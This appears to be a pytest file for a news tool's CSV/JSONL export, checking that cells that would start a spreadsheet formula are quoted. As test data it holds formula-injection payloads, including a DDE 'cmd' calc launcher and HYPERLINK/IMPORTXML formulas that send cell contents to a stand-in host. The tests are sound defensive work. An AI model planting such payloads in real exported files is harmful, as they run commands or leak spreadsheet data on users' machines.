"""Everything comes out as it was stored, row by row, and no spreadsheet runs any of it."""

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from cli.export import Format, What, _cell, _write, export
from conflict.codebook import CycleKind
from register.commands import cycles, fetches, readings
from register.commands import sources as source_commands
from register.engine import open_register
from register.migrate import migrate
from register.settings import Storage
from tests.cli.conftest import Run, told
from tests.conftest import NOW, ROOT
from tests.make import a_source, an_article, an_assessed, an_attempt, an_update

FORMULA = '=HYPERLINK("https://malo.example?"&A1,"Ver")'
DANGEROUS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "  '  =1", "＝1", "＋1", "－1", "＠A1"),
    *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=IMPORTXML("http://malo.example")', "\u00a0=1", "\u200b=1"),
    *("\ufeff=1", "\x00=1", "\u2003=1", "\u202e=1"),
]
HARMLESS = ["Marcha en El Alto", "48 horas", "¿Qué pasó?", "«=»", "100 % = todo", "a@b.example", "", "'cita'", "5-4"]


@pytest.fixture
def filled(environment: dict[str, str]) -> Storage:
    """Fill the register that the command will find: two articles of hostile words, one of them in the queue."""
    folder = Path(environment["ATALAYA_DATOS"])
    storage = Storage(f"sqlite:///{folder / 'atalaya.db'}", folder)
    migrate(storage)
    register = open_register(storage)
    articles = [an_article(1, title=FORMULA, summary="dos\nlíneas; y «comillas»", author="@autor"), an_article(2)]
    with register.writing() as session:
        source_commands.sync(session, sources=[a_source()], now=NOW)
        taken = cycles.take(session, kind=CycleKind.FULL, holder="h", now=NOW, wall=NOW, lease_seconds=300)
    with register.writing() as session:
        fetches.record(
            session,
            cycle_id=taken.cycle_id,
            attempt=an_attempt(articles=2),
            articles=articles,
            update=an_update(),
            now=NOW,
        )
    with register.writing() as session:
        waiting = readings.claim(session, holder="h", now=NOW, lease_seconds=300, limit=9)
        readings.record(session, assessed=[an_assessed(one, f"new:{n}") for n, one in enumerate(waiting)], now=NOW)
    register.close()
    return storage


@pytest.fixture
def out(filled: Storage, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., str]:
    """Return what the verb writes, without the second that a process of its own takes to begin."""
    monkeypatch.setenv("ATALAYA_DATOS", str(filled.folder))
    monkeypatch.delenv("ATALAYA_BASE_DE_DATOS", raising=False)

    def written(what: str, form: str = "jsonl", target: Path | None = None) -> str:
        capsys.readouterr()
        export(What(what), Format(form), target)
        return capsys.readouterr().out

    return written


@pytest.mark.parametrize("what", ["articulos", "senales", "cola", "registros", "bitacora"])
def test_both_formats_tell_the_same_rows(out: Callable[..., str], what: str) -> None:
    lines = [json.loads(line) for line in out(what).splitlines()]
    cells = list(csv.DictReader(io.StringIO(out(what, "csv"), newline="")))
    assert len(lines) == len(cells) == {"articulos": 2, "senales": 2, "cola": 2, "registros": 0}.get(what, len(lines))
    for line, row in zip(lines, cells, strict=True):
        assert list(line) == list(row)
        assert {name: _cell(value) for name, value in line.items()} == row
    assert what != "bitacora" or lines


def test_a_table_of_nothing_has_its_heads(out: Callable[..., str]) -> None:
    assert out("registros") == ""
    assert out("registros", "csv").startswith('"codigo","clase","estado"')
    assert len(out("registros", "csv").splitlines()) == 1


def test_lines_carry_what_was_stored_to_the_letter(out: Callable[..., str]) -> None:
    first = json.loads(out("articulos").splitlines()[0])
    assert first["titular"] == FORMULA
    assert first["bajada"] == "dos\nlíneas; y «comillas»"
    assert first["publicado_en"] == "2026-11-20T15:00:00+00:00"


def test_a_table_never_starts_a_formula_from_the_news(out: Callable[..., str]) -> None:
    rows = list(csv.DictReader(io.StringIO(out("articulos", "csv"), newline="")))
    assert rows[0]["titular"] == f"'{FORMULA}"
    assert rows[0]["autor"] == "'@autor"
    assert rows[0]["bajada"] == "dos\nlíneas; y «comillas»"


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert _cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_it_would_not_run_stays_as_it_is(text: str) -> None:
    assert _cell(text) == text


def test_numbers_stay_numbers_and_lists_stay_readable() -> None:
    assert _cell(-3) == "-3"
    assert _cell(0.25) == "0.25"
    assert _cell(None) == ""
    assert _cell(["=1", "ñ"]) == '["=1", "ñ"]'


def test_a_file_is_whole_or_not_there(tmp_path: Path) -> None:
    def rows():
        yield {"a": 1}
        raise RuntimeError("cut")

    target = tmp_path / "salida.csv"
    target.write_text("lo de antes")
    with pytest.raises(RuntimeError):
        _write(rows(), Format.CSV, target, ("a",))
    assert target.read_text() == "lo de antes"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["salida.csv"]


def test_a_file_is_written_and_counted(run: Run, filled: Storage, tmp_path: Path) -> None:
    target = tmp_path / "cola.csv"
    done = run("exportar", "cola", "--formato", "csv", "--salida", str(target))
    assert (done.returncode, done.stdout) == (0, "")
    assert told(done) == f"2 filas de cola en {target}."
    assert len(list(csv.DictReader(target.open(newline="", encoding="utf-8")))) == 2


def test_a_table_begins_with_its_heads(out: Callable[..., str]) -> None:
    assert out("cola", "csv").splitlines()[0].startswith('"codigo","estado","nivel"')


@pytest.mark.parametrize(("target", "why"), [("no-hay/cola.csv", "no existe"), ("datos", "es una carpeta")])
def test_a_place_that_cannot_be_written_is_told(
    out: Callable[..., str], capsys: pytest.CaptureFixture[str], tmp_path: Path, target: str, why: str
) -> None:
    with pytest.raises(SystemExit, match="3"):
        out("cola", target=tmp_path / target)
    assert f"No se puede escribir en {tmp_path / target}: {why}." in capsys.readouterr().err


def test_a_reader_that_stops_early_is_no_fault(environment: dict[str, str], filled: Storage) -> None:
    done = subprocess.run(
        f"{sys.executable} -m cli exportar bitacora | head -c 1",
        shell=True, cwd=ROOT, env=environment, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert "Traceback" not in done.stderr
    assert "BrokenPipe" not in done.stderr


def test_before_there_is_a_register_the_way_out_is_told(run: Run) -> None:
    done = run("exportar", "cola")
    assert done.returncode == 3
    assert "atalaya migrar" in told(done)
